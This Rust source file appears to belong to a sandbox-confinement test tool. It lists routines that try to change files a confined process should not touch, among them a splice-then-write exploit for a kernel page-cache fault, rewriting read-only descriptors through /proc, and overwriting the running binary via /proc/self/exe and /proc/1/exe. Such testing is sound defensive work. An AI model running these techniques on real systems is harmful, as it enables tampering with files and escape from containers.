//! Ways to change files.

use core::ffi::CStr;

use super::{beneath, open_to_change, proc_name, shown, tried};
use crate::arguments::Arguments;
use crate::{Attack, nr, report, sys};

pub const ATTACKS: &[Attack] = &[
    ("create", create),
    ("modify", modify),
    ("rename-away", rename_away),
    ("remove", remove),
    ("link", link),
    ("link-and-write", link_and_write),
    ("map", map),
    ("reopen", reopen),
    ("transfer", transfer),
    ("splice-over", splice_over),
    ("put", put),
    ("replace-directory", replace_directory),
    ("replace-by-link", replace_by_link),
    ("overwrite-program", overwrite_program),
    ("overwrite-on-behalf", overwrite_on_behalf),
];

const CHANGE: &[u8] = b"changed from inside\n";

/// `create DIRECTORY`: makes one of each kind in it.
fn create(arguments: Arguments) {
    const FIFO: usize = 0o010666;
    let directory = arguments.c_str(0);
    let named = |name| beneath(directory, name);
    let here = sys::AT_FDCWD;
    let opened = sys::open(&named("made-file"), sys::O_WRONLY | sys::O_CREAT, 0o666);
    tried("open to create", opened.map(|fd| fd as usize));
    tried("mkdir", sys::call(nr::MKDIRAT, &[here, sys::c(&named("made-directory")), 0o777]));
    tried("symlink", sys::call(nr::SYMLINKAT, &[sys::c(c"/"), here, sys::c(&named("made-link"))]));
    tried("mknod", sys::call(nr::MKNODAT, &[here, sys::c(&named("made-pipe")), FIFO]));
}

/// `modify PATH`: writes, appends and cuts, by name and by descriptor.
fn modify(arguments: Arguments) {
    let path = arguments.c_str(0);
    for flags in [sys::O_WRONLY, sys::O_RDWR, sys::O_WRONLY | sys::O_APPEND, sys::O_WRONLY | sys::O_TRUNC] {
        if let Some(fd) = open_to_change(path, flags) {
            tried("write", sys::write(fd, CHANGE));
            sys::close(fd);
        }
    }
    tried("truncate", sys::call(nr::TRUNCATE, &[sys::c(path), 3]));
    // A descriptor that was opened to read must not do either.
    if let Ok(fd) = sys::open(path, sys::O_RDONLY, 0) {
        tried("write to what was opened to read", sys::write(fd, CHANGE));
        tried("ftruncate what was opened to read", sys::call(nr::FTRUNCATE, &[fd as usize, 0]));
    }
}

/// `rename-away PATH`
fn rename_away(arguments: Arguments) {
    let path = arguments.c_str(0);
    let moved = super::c_string(alloc::format!("{}-moved", shown(path)));
    rename("rename", path, &moved, 0);
}

fn rename(what: &str, from: &CStr, to: &CStr, flags: usize) -> bool {
    tried(what, sys::call(nr::RENAMEAT2, &[sys::AT_FDCWD, sys::c(from), sys::AT_FDCWD, sys::c(to), flags]))
}

/// `remove PATH…`: files and empty directories.
fn remove(arguments: Arguments) {
    const AT_REMOVEDIR: usize = 0x200;
    for path in arguments.all() {
        if !tried("unlink", sys::call(nr::UNLINKAT, &[sys::AT_FDCWD, sys::c(path)])) {
            tried("rmdir", sys::call(nr::UNLINKAT, &[sys::AT_FDCWD, sys::c(path), AT_REMOVEDIR]));
        }
    }
}

fn link_to(what: &str, from: &CStr, to: &CStr) -> bool {
    let arguments = [sys::AT_FDCWD, sys::c(from), sys::AT_FDCWD, sys::c(to), super::AT_SYMLINK_FOLLOW];
    tried(what, sys::call(nr::LINKAT, &arguments))
}

/// `link FILE DIRECTORY OUTSIDE`: gives the file a name in the directory, by name and by descriptor; and gives a nameless
/// file that was made in the directory a name outside of it.
fn link(arguments: Arguments) {
    let (file, directory, outside) = (arguments.c_str(0), arguments.c_str(1), arguments.c_str(2));
    link_to("link", file, &beneath(directory, "linked"));
    if let Ok(fd) = sys::open(file, sys::O_PATH, 0) {
        link_to("link by descriptor", &proc_name(fd), &beneath(directory, "linked-by-descriptor"));
    }
    match sys::open(directory, super::O_TMPFILE | sys::O_WRONLY, 0o666) {
        Ok(fd) => _ = link_to("link a nameless file", &proc_name(fd), &beneath(outside, "linked")),
        Err(errno) => report::refused("open with O_TMPFILE", errno),
    }
}

/// `link-and-write FILE NAME`: writes to the file under a name of its own choice.
fn link_and_write(arguments: Arguments) {
    let (file, name) = (arguments.c_str(0), arguments.c_str(1));
    link_to("link", file, name);
    if let Some(fd) = open_to_change(name, sys::O_WRONLY) {
        tried("write", sys::write(fd, CHANGE));
    }
}

/// `map PATH`: writes to the file through memory, with whatever descriptor it can get.
fn map(arguments: Arguments) {
    const READ_WRITE: usize = 3;
    const SHARED: usize = 1;
    const PAGE: usize = 4096;
    for flags in [sys::O_RDWR, sys::O_RDONLY] {
        let Some(fd) = open_to_change(arguments.c_str(0), flags) else { continue };
        match sys::call(nr::MMAP, &[0, PAGE, READ_WRITE, SHARED, fd as usize, 0]) {
            Ok(place) => {
                // SAFETY: the kernel has just mapped a page there, and the file is not empty.
                unsafe { (place as *mut u8).write_volatile(b'X') };
                const SYNCHRONOUSLY: usize = 4;
                tried("msync", sys::call(nr::MSYNC, &[place, PAGE, SYNCHRONOUSLY]));
            }
            Err(errno) => report::refused("mmap to write", errno),
        }
    }
}

/// `reopen PATH`: turns descriptors that cannot write into ones that can, through `/proc` and without.
fn reopen(arguments: Arguments) {
    for flags in [sys::O_RDONLY, sys::O_PATH] {
        let Some(fd) = open_to_change(arguments.c_str(0), flags) else { continue };
        let alias = super::c_string(alloc::format!("/dev/fd/{fd}"));
        for name in [&proc_name(fd), &alias] {
            if let Some(fd) = open_to_change(name, sys::O_RDWR) {
                tried("write", sys::write(fd, CHANGE));
            }
        }
        let empty = [fd as usize, sys::c(c""), sys::O_RDWR | super::AT_EMPTY_PATH];
        tried("openat with an empty path", sys::call(nr::OPENAT, &empty));
    }
}

/// `transfer PATH`: writes without `write`: holes, copies inside of the kernel, pipes.
fn transfer(arguments: Arguments) {
    const PUNCH_HOLE_KEEP_SIZE: usize = 3;
    let Some(fd) = open_to_change(arguments.c_str(0), sys::O_RDWR) else { return };
    let Ok(source) = sys::open(c"/proc/self/exe", sys::O_RDONLY, 0) else { return };
    let (fd, source) = (fd as usize, source as usize);
    tried("fallocate", sys::call(nr::FALLOCATE, &[fd, PUNCH_HOLE_KEEP_SIZE, 0, 4]));
    tried("copy_file_range", sys::call(nr::COPY_FILE_RANGE, &[source, 0, fd, 0, 16, 0]));
    tried("sendfile", sys::call(nr::SENDFILE, &[fd, source, 0, 16]));
    let mut ends = [0i32; 2];
    if sys::call(nr::PIPE2, &[ends.as_mut_ptr() as usize, 0]).is_ok() {
        sys::write_all(ends[1], CHANGE);
        tried("splice", sys::call(nr::SPLICE, &[ends[0] as usize, 0, fd, 0, CHANGE.len(), 0]));
    }
}

/// `splice-over PATH`: puts a page of a file that it may only read into a pipe, and writes to the pipe. On a kernel with
/// the fault, the write ends up in the file.
fn splice_over(arguments: Arguments) {
    let Some(fd) = open_to_change(arguments.c_str(0), sys::O_RDONLY) else { return };
    let mut ends = [0i32; 2];
    if sys::call(nr::PIPE2, &[ends.as_mut_ptr() as usize, 0]).is_err() {
        return;
    }
    // Filled and emptied once, so that every slot of the pipe remembers that it could be added to.
    const PAGES: usize = 16;
    let mut page = [0u8; 4096];
    for _ in 0..PAGES {
        sys::write_all(ends[1], &page);
    }
    for _ in 0..PAGES {
        let _ = sys::read(ends[0], &mut page);
    }
    let mut offset = 0u64;
    let spliced = sys::call(nr::SPLICE, &[fd as usize, &raw mut offset as usize, ends[1] as usize, 0, 1, 0]);
    if tried("splice", spliced) {
        tried("write", sys::write(ends[1], b"XX"));
    }
}

/// `put PATH…`: writes a file, whatever it takes: makes its directory, and what was there is replaced.
fn put(arguments: Arguments) {
    for path in arguments.all() {
        let text = shown(path);
        for (at, _) in text.match_indices('/').skip(1) {
            let _ = sys::call(nr::MKDIRAT, &[sys::AT_FDCWD, sys::c(&super::c_string(&text[..at])), 0o777]);
        }
        if let Some(fd) = open_to_change(path, sys::O_WRONLY | sys::O_CREAT) {
            tried(format_args!("write {text}"), sys::write(fd, CHANGE));
            continue;
        }
        let other = super::c_string(alloc::format!("{text}-other"));
        tried("unlink", sys::call(nr::UNLINKAT, &[sys::AT_FDCWD, sys::c(path)]));
        if let Some(fd) = open_to_change(&other, sys::O_WRONLY | sys::O_CREAT) {
            tried("write", sys::write(fd, CHANGE));
            rename("rename over it", &other, path, 0);
        }
    }
}

/// `replace-directory DIRECTORY FILE`: puts a directory of its own, with that file, in the place of one that is there.
fn replace_directory(arguments: Arguments) {
    const EXCHANGE: usize = 2;
    let directory = arguments.c_str(0);
    let (own, away) = (
        super::c_string(alloc::format!("{}-own", shown(directory))),
        super::c_string(alloc::format!("{}-away", shown(directory))),
    );
    let _ = sys::call(nr::MKDIRAT, &[sys::AT_FDCWD, sys::c(&own), 0o777]);
    if let Some(fd) = open_to_change(&beneath(&own, arguments.display(1)), sys::O_WRONLY | sys::O_CREAT) {
        sys::write_all(fd, CHANGE);
    }
    if rename("exchange", &own, directory, EXCHANGE) {
        return;
    }
    rename("rename", directory, &away, 0);
    rename("rename into its place", &own, directory, 0);
}

/// `replace-by-link DIRECTORY TARGET`: puts a symbolic link in the place of a directory.
fn replace_by_link(arguments: Arguments) {
    let directory = arguments.c_str(0);
    let away = super::c_string(alloc::format!("{}-away", shown(directory)));
    rename("rename", directory, &away, 0);
    let link = [sys::c(arguments.c_str(1)), sys::AT_FDCWD, sys::c(directory)];
    tried("symlink", sys::call(nr::SYMLINKAT, &link));
}

/// `overwrite-program`: keeps hold of the program that it was started from, becomes a copy of it in memory so that
/// nobody runs the original any more, and writes to that.
fn overwrite_program(_: Arguments) {
    const SEALING_ALLOWED: usize = 2;
    let Ok(program) = sys::call(nr::OPENAT, &[sys::AT_FDCWD, sys::c(c"/proc/self/exe"), sys::O_PATH]) else { return };
    let copied = sys::call(nr::MEMFD_CREATE, &[sys::c(c"copy"), SEALING_ALLOWED]).and_then(|copy| {
        sys::write_all(copy as sys::Fd, &sys::read_file(c"/proc/self/exe", 4 << 20)?);
        Ok(copy)
    });
    let number = super::c_string(alloc::format!("{program}"));
    let words = [sys::c(c"intruder"), sys::c(c"overwrite-on-behalf"), sys::c(&number), 0];
    let started = copied.and_then(|copy| {
        sys::call(nr::EXECVEAT, &[copy, sys::c(c""), words.as_ptr() as usize, 0, super::AT_EMPTY_PATH])
    });
    tried("become a copy of itself", started);
    overwrite(program as sys::Fd);
}

/// `overwrite-on-behalf DESCRIPTOR`: the second half of that.
fn overwrite_on_behalf(arguments: Arguments) {
    overwrite(arguments.number(0) as sys::Fd);
}

fn overwrite(program: sys::Fd) {
    if let Some(fd) = open_to_change(&proc_name(program), sys::O_WRONLY | sys::O_APPEND) {
        tried("write", sys::write(fd, b"\0"));
    }
    // The program of the first process of the box; nothing is written to it.
    report::success("open /proc/1/exe to write", sys::open(c"/proc/1/exe", sys::O_WRONLY, 0).map(|fd| fd as usize));
}
